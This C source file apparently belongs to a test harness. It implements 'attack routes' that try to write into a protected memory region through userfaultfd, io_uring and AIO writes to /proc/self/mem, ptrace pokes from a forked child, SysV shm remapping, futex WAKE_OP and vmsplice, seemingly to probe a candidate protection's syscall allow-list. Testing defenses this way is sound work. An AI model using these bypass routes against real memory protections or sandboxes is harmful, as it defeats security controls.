/* Attack routes that need more than ctypes: io_uring, AIO, userfaultfd, ptrace, SysV shm, futex.
 * Each returns 0 on success or an errno (positive), and never touches the target with plain stores
 * unless the kernel said the target is now writable. Built by build.sh into libroutes.so. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/aio_abi.h>
#include <linux/futex.h>
#include <linux/io_uring.h>
#include <linux/userfaultfd.h>
#include <signal.h>
#include <stdint.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define ERR(x) ((x) < 0 ? errno : 0)

/* ---------------- userfaultfd: UFFDIO_COPY fills a hole of a shmem file through any mapping it can register */
static int uffd_open(void) {
    int fd = syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK | UFFD_USER_MODE_ONLY);
    if (fd >= 0) return fd;
    int e1 = errno;
    int dev = open("/dev/userfaultfd", O_RDWR | O_CLOEXEC);
    if (dev < 0) { errno = e1; return -1; }
    fd = ioctl(dev, USERFAULTFD_IOC_NEW, O_CLOEXEC | O_NONBLOCK | UFFD_USER_MODE_ONLY);
    close(dev);
    return fd;
}

/* stage: 1 open, 2 api, 3 register, 4 copy. Returns errno, *stage says where it stopped. */
int uffd_copy(void *range, size_t len, void *dst, const void *src, size_t n, int mode, int *stage) {
    *stage = 1;
    int fd = uffd_open();
    if (fd < 0) return errno;
    *stage = 2;
    struct uffdio_api api = {.api = UFFD_API, .features = 0};
    if (ioctl(fd, UFFDIO_API, &api) < 0) { int e = errno; close(fd); return e; }
    *stage = 3;
    struct uffdio_register reg = {.range = {(uintptr_t)range, len},
                                  .mode = mode ? UFFDIO_REGISTER_MODE_MINOR : UFFDIO_REGISTER_MODE_MISSING};
    if (ioctl(fd, UFFDIO_REGISTER, &reg) < 0) { int e = errno; close(fd); return e; }
    *stage = 4;
    int e = 0;
    if (mode) { /* minor: map the page cache page as is (UFFDIO_CONTINUE) */
        struct uffdio_continue c = {.range = {(uintptr_t)dst, n}};
        if (ioctl(fd, UFFDIO_CONTINUE, &c) < 0) e = errno;
    } else {
        struct uffdio_copy c = {.dst = (uintptr_t)dst, .src = (uintptr_t)src, .len = n};
        if (ioctl(fd, UFFDIO_COPY, &c) < 0) e = errno;
    }
    close(fd);
    return e;
}

/* ---------------- io_uring, raw: one SQE, one CQE */
static int uring_one(struct io_uring_sqe *in, int *res) {
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    int fd = syscall(__NR_io_uring_setup, 4, &p);
    if (fd < 0) return errno;
    size_t sqsz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cqsz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    char *sq = mmap(0, sqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQ_RING);
    char *cq = mmap(0, cqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_CQ_RING);
    struct io_uring_sqe *sqes = mmap(0, p.sq_entries * sizeof *sqes, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
                                     fd, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) { int e = errno; close(fd); return e; }
    unsigned *tail = (unsigned *)(sq + p.sq_off.tail), *mask = (unsigned *)(sq + p.sq_off.ring_mask);
    unsigned *array = (unsigned *)(sq + p.sq_off.array);
    unsigned t = *tail, idx = t & *mask;
    sqes[idx] = *in;
    array[idx] = idx;
    __atomic_store_n(tail, t + 1, __ATOMIC_RELEASE);
    int r = syscall(__NR_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
    if (r < 0) { int e = errno; close(fd); return e; }
    unsigned *chead = (unsigned *)(cq + p.cq_off.head);
    struct io_uring_cqe *cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
    *res = cqes[*chead & *(unsigned *)(cq + p.cq_off.ring_mask)].res;
    close(fd);
    return 0;
}

/* op 0: IORING_OP_READ from fd into dst; op 1: IORING_OP_WRITE of src to fd at offset off (/proc/self/mem) */
int uring_rw(int op, int fd, void *buf, unsigned n, uint64_t off, int *res) {
    struct io_uring_sqe s;
    memset(&s, 0, sizeof s);
    s.opcode = op ? IORING_OP_WRITE : IORING_OP_READ;
    s.fd = fd;
    s.addr = (uintptr_t)buf;
    s.len = n;
    s.off = off;
    return uring_one(&s, res);
}

/* io_uring registered buffer over the target (pins with FOLL_WRITE), then READ_FIXED into it */
int uring_fixed(int fd, void *buf, unsigned n, int *res) {
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    int rfd = syscall(__NR_io_uring_setup, 4, &p);
    if (rfd < 0) return errno;
    struct iovec iov = {buf, n};
    int r = syscall(__NR_io_uring_register, rfd, IORING_REGISTER_BUFFERS, &iov, 1);
    int e = r < 0 ? errno : 0;
    close(rfd);
    *res = r;
    return e;
}

/* ---------------- Linux AIO (io_setup/io_submit are on the candidate's allow-list) */
int aio_rw(int write, int fd, void *buf, size_t n, int64_t off, long *res) {
    aio_context_t ctx = 0;
    if (syscall(SYS_io_setup, 1, &ctx) < 0) return errno;
    struct iocb cb;
    memset(&cb, 0, sizeof cb);
    cb.aio_lio_opcode = write ? IOCB_CMD_PWRITE : IOCB_CMD_PREAD;
    cb.aio_fildes = fd;
    cb.aio_buf = (uintptr_t)buf;
    cb.aio_nbytes = n;
    cb.aio_offset = off;
    struct iocb *list[1] = {&cb};
    if (syscall(SYS_io_submit, ctx, 1, list) < 0) { int e = errno; syscall(SYS_io_destroy, ctx); return e; }
    struct io_event ev;
    if (syscall(SYS_io_getevents, ctx, 1, 1, &ev, NULL) < 0) { int e = errno; syscall(SYS_io_destroy, ctx); return e; }
    *res = ev.res;
    syscall(SYS_io_destroy, ctx);
    return 0;
}

/* ---------------- ptrace of this process by a forked child (PTRACE_ATTACH + POKEDATA), or of a thread of its own */
int ptrace_poke_from_child(void *dst, long word, int *child_status) {
    pid_t me = getpid();
    int pfd[2];
    if (pipe(pfd) < 0) return errno;
    pid_t c = fork();
    if (c < 0) { int e = errno; close(pfd[0]); close(pfd[1]); return e; }
    if (c == 0) {
        int e = 0;
        if (ptrace(PTRACE_SEIZE, me, 0, 0) < 0) e = 1000 + errno;
        else {
            ptrace(PTRACE_INTERRUPT, me, 0, 0);
            int st;
            waitpid(me, &st, __WALL);
            if (ptrace(PTRACE_POKEDATA, me, dst, (void *)word) < 0) e = 2000 + errno;
            ptrace(PTRACE_DETACH, me, 0, 0);
        }
        write(pfd[1], &e, sizeof e);
        _exit(0);
    }
    close(pfd[1]);
    int e = -1;
    while (read(pfd[0], &e, sizeof e) < 0 && errno == EINTR) {}
    close(pfd[0]);
    waitpid(c, child_status, 0);
    return e; /* 0 ok, 1000+errno attach failed, 2000+errno poke failed */
}

int ptrace_thread(int tid) { return ptrace(PTRACE_SEIZE, tid, 0, 0) < 0 ? errno : 0; }

/* ---------------- SysV shm over the target (SHM_REMAP is MAP_FIXED) */
int shm_over(void *dst, const void *src, size_t n, size_t len, int remap) {
    int id = shmget(IPC_PRIVATE, len, IPC_CREAT | 0600);
    if (id < 0) return errno;
    char *tmp = shmat(id, NULL, 0);
    if (tmp == (void *)-1) { int e = errno; shmctl(id, IPC_RMID, 0); return e; }
    memset(tmp, 0, len);
    shmdt(tmp);
    void *at = shmat(id, dst, remap ? SHM_REMAP : 0);
    int e = at == (void *)-1 ? errno : 0;
    if (!e) memcpy(dst, src, n); /* attached read-write at the target: write the chosen bytes */
    shmctl(id, IPC_RMID, 0);
    return e;
}

/* ---------------- futex WAKE_OP writes *uaddr2 from the kernel (needs a writable page) */
int futex_wakeop(void *uaddr1, void *uaddr2) {
    int op = FUTEX_OP(FUTEX_OP_SET, 0x41, FUTEX_OP_CMP_EQ, 0);
    long r = syscall(SYS_futex, uaddr1, FUTEX_WAKE_OP, 1, (void *)1, uaddr2, op);
    return r < 0 ? errno : 0;
}

/* ---------------- vmsplice from a pipe into user memory */
int vmsplice_into(void *dst, const void *src, size_t n) {
    int p[2];
    if (pipe(p) < 0) return errno;
    write(p[1], src, n);
    struct iovec iov = {dst, n};
    long r = vmsplice(p[0], &iov, 1, 0);
    int e = r < 0 ? errno : 0;
    close(p[0]);
    close(p[1]);
    return e;
}
